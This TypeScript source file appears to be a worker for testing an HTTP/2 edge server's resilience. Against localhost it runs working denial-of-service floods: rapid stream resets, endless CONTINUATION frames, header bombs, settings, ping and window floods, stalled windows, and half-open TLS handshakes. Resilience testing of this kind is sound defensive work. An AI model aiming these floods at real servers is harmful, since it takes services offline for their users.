/**
 * A thread that attacks an edge over HTTP/2 and TLS in one way, on several connections, and goes on with new ones where it is
 * closed, until it is told to end: then it says how often it connected and how often it was closed, and waits to be terminated.
 */
import { connect as connectPlainly } from "node:net";
import { connect, type TLSSocket } from "node:tls";
import { parentPort, workerData } from "node:worker_threads";
import {
  begin,
  endHeaders,
  endStream,
  frame,
  literal,
  requestFields,
  settings,
} from "./http2-frames.ts";

export type AttackName =
  | "resets"
  | "continuations"
  | "bombs"
  | "fields"
  | "manyHeads"
  | "settings"
  | "pings"
  | "windows"
  | "crumbs"
  | "unread"
  | "idle"
  | "handshakes"
  | "halves";

export interface AttackOrder {
  readonly name: AttackName;
  readonly port: number;
  readonly host: string;
  /** The address that it connects from. */
  readonly from: string;
  /** How many connections at once. */
  readonly connections: number;
  /** Whether it is to go on until a connection of it is closed by the other side. */
  readonly isClosed: boolean;
}

export interface AttackReport {
  readonly connected: number;
  readonly closed: number;
}

const many = (frames: Buffer, count: number): Buffer =>
  Buffer.concat(Array.from({ length: count }, () => frames));

/** What is written again and again, by how often it was before. */
type Pieces = (turn: number) => Buffer;

function attackOf(
  name: AttackName,
  host: string,
): { readonly first: Buffer; readonly pieces?: Pieces } {
  const fields = requestFields(host);
  const none = Buffer.alloc(0);
  const get = (streamId: number): Buffer =>
    frame("headers", streamId, fields, endStream | endHeaders);
  const post = frame(
    "headers",
    1,
    Buffer.concat([Buffer.from([0x83]), fields.subarray(1)]),
    endHeaders,
  );
  switch (name) {
    case "resets":
      return {
        first: none,
        pieces: (turn) =>
          Buffer.concat(
            Array.from({ length: 50 }, (_, index) => {
              const streamId = (turn * 50 + index) * 2 + 1;
              return Buffer.concat([
                get(streamId),
                frame("reset", streamId, Buffer.from([0, 0, 0, 8])),
              ]);
            }),
          ),
      };
    case "continuations":
      return {
        first: frame("headers", 1, fields, endStream),
        pieces: () => many(frame("continuation", 1, literal("x-filler", "f".repeat(1000))), 10),
      };
    case "bombs":
      return {
        first: none,
        pieces: (turn) =>
          frame(
            "headers",
            turn * 2 + 1,
            Buffer.concat([
              fields,
              literal("x-bomb", "b".repeat(3900), 0x40),
              Buffer.alloc(12_000, 0xbe),
            ]),
            endStream | endHeaders,
          ),
      };
    case "fields":
      return {
        first: none,
        pieces: (turn) =>
          frame(
            "headers",
            turn * 2 + 1,
            Buffer.concat([fields, literal("x-bomb", "b", 0x40), Buffer.alloc(500, 0xbe)]),
            endStream | endHeaders,
          ),
      };
    // Each within what counts for nothing, as many as there may be at once.
    case "manyHeads":
      return {
        first: none,
        pieces: (turn) =>
          Buffer.concat(
            Array.from({ length: 64 }, (_, index) =>
              frame(
                "headers",
                (turn * 64 + index) * 2 + 1,
                Buffer.concat([fields, literal("x-bomb", "b", 0x40), Buffer.alloc(250, 0xbe)]),
                endStream | endHeaders,
              ),
            ),
          ),
      };
    case "settings":
      return { first: none, pieces: () => many(settings({ 4: 65_535 }), 100) };
    case "pings":
      return { first: none, pieces: () => many(frame("ping", 0, Buffer.alloc(8)), 100) };
    case "windows":
      return {
        first: none,
        pieces: () => many(frame("windowUpdate", 0, Buffer.from([0, 0, 0, 1])), 100),
      };
    case "crumbs":
      return { first: post, pieces: () => many(frame("data", 1, Buffer.from("x")), 50) };
    case "unread":
      // With a window of nothing, each answer waits.
      return {
        first: Buffer.concat([
          settings({ 4: 0 }),
          ...Array.from({ length: 100 }, (_, index) => get(index * 2 + 1)),
        ]),
      };
    case "idle":
      return { first: get(1) };
    case "handshakes":
    case "halves":
      return { first: none };
  }
}

const { name, port, host, from, connections, isClosed } = workerData as AttackOrder;
const { first, pieces } = attackOf(name, host);
let isOver = false;
let connected = 0;
let closed = 0;
parentPort?.once("message", end);

/** Ends it once something came of it, which on a busy machine may take longer than whoever watches. */
function end(): void {
  if (connected === 0 || (isClosed && closed === 0)) {
    setTimeout(end, 20);
    return;
  }
  isOver = true;
  const report: AttackReport = { connected, closed };
  parentPort?.postMessage(report);
}

function open(): Promise<TLSSocket | undefined> {
  return new Promise((resolve) => {
    const options = {
      ...{ host: "127.0.0.1", port, localAddress: from, servername: host },
      rejectUnauthorized: false,
    };
    const socket = connect({ ...options, ALPNProtocols: ["h2"] }, () => resolve(socket));
    socket.on("error", () => resolve(undefined));
    // Its peer's words are taken, and mean nothing.
    socket.resume();
  });
}

/** Begins a handshake, and never goes on with it. */
async function connectHalfway(): Promise<void> {
  const socket = connectPlainly({ port, host: "127.0.0.1", localAddress: from });
  socket.on("error", () => {});
  socket.write(Buffer.from([0x16, 3, 1, 2, 0, 1]));
  connected += 1;
  await new Promise((resolve) => socket.once("close", resolve));
  if (!isOver) closed += 1;
}

/** Resolves when the connection is closed. */
async function attackOnce(): Promise<void> {
  if (name === "halves") return connectHalfway();
  const socket = await open();
  if (socket === undefined) return;
  connected += 1;
  if (name === "handshakes") {
    socket.destroy();
    return;
  }
  const over = new Promise<void>((resolve) => {
    socket.once("close", () => {
      if (!isOver) closed += 1;
      resolve();
    });
  });
  begin(socket);
  socket.write(first);
  if (pieces !== undefined) {
    for (let turn = 0; !socket.destroyed && !isOver; turn += 1) {
      await new Promise<void>((written) => {
        socket.once("close", written);
        socket.write(pieces(turn), () => {
          socket.off("close", written);
          setImmediate(written);
        });
      });
    }
  }
  await over;
}

for (let index = 0; index < connections; index += 1) {
  void (async () => {
    while (!isOver) {
      await attackOnce();
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  })();
}
